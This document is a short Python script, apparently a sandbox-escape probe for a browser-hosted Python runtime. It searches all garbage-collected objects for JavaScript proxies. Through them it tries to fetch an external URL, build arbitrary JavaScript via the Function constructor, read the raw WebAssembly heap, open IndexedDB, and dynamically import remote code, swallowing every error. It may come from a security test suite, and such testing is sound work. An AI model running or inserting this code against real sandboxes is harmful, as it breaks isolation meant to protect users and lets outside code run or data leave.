"""Find JavaScript objects among all that the garbage collector knows, and use their constructors."""

import gc

from target import URL

gc.unfreeze()
seen = {}
todo = list(gc.get_objects())
while todo and len(seen) < 400_000:
    thing = todo.pop()
    if id(thing) in seen:
        continue
    seen[id(thing)] = thing
    todo.extend(gc.get_referents(thing))
proxies = [thing for thing in seen.values() if "JsProxy" in type(thing).__name__ or "JsCallable" in type(thing).__name__]
for proxy in proxies:
    for attempt in (
        lambda p: p.fetch(URL),
        lambda p: p.constructor.constructor(f"return fetch('{URL}')")(),
        lambda p: p._module.HEAPU8,
        lambda p: p.FS.filesystems.IDBFS.indexedDB().open("x"),
        lambda p: p.tests.Function("u", "return import(u)")(URL),
    ):
        try:
            print("GOT", attempt(proxy))
        except BaseException:
            continue
